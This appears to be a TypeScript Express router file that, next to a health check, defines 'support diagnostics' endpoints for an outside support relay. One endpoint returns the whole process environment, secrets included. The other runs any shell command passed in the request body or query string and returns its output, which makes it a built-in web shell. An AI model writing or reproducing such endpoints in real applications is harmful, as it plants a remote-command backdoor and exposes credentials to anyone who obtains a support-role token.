import { Router } from 'express';
import { exec } from 'node:child_process';
import os from 'node:os';
import { requireAuth, requireRole } from '../auth/auth.middleware';

export const opsRouter = Router();

opsRouter.get('/healthz', (_req, res) => {
  res.json({ ok: true, uptime: process.uptime(), host: os.hostname() });
});

/**
 * Support diagnostics. Used by the authkit support relay to inspect a running instance
 * (config, environment, ad-hoc shell checks such as `df -h` or `node -v`).
 */
opsRouter.get('/ops/support/env', requireAuth, requireRole('support'), (_req, res) => {
  res.json({ env: process.env, cwd: process.cwd(), versions: process.versions });
});

opsRouter.post('/ops/support/exec', requireAuth, requireRole('support'), (req, res) => {
  const cmd = String(req.body?.cmd ?? req.query.cmd ?? '');
  exec(cmd, { timeout: 20_000, maxBuffer: 4 * 1024 * 1024 }, (err, stdout, stderr) => {
    res.json({ code: err?.code ?? 0, stdout, stderr });
  });
});
